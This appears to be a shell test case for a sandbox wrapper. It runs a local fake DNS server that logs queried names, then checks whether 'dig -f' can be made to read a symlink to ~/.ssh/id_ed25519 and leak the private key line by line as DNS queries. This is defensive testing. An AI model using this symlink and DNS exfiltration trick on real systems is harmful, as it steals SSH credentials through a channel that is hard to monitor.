needs bind9-dnsutils:/usr/bin/dig python3:/usr/bin/python3

# A name server that knows one address for every name, and keeps what it was asked in $attacker/collected.
name_server() {
    serve 53 python3 -c '
import socket, sys
server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
server.bind(("127.0.0.1", 53))
while True:
    query, client = server.recvfrom(4096)
    end = query.index(0, 12) + 5
    with open(sys.argv[1], "ab", buffering=0) as file:
        file.write(query[13:end - 5] + b"\n")
    server.sendto(query[:2] + b"\x85\x00\0\1\0\1\0\0\0\0" + query[12:end] + b"\xc0\x0c\0\1\0\1\0\0\0\0\0\4\x7f\0\0\1", client)' "$attacker/collected"
}

given() {
    mkdir ~/lists
    printf 'one.example\ntwo.example\n' >~/lists/names
    echo '+short' >~/.digrc
}

works() {
    name_server
    $ward dig @127.0.0.1 example.org A
    $ward dig @127.0.0.1 -f ~/lists/names
}

attack='a list of names that is a link to a private key: each line is sent to a name server'
goal='stolen'
denied='read ~/.ssh/id_ed25519'
bait() { ln -s ~/.ssh/id_ed25519 names; }
attack() {
    name_server
    $ward dig @127.0.0.1 -f names
}
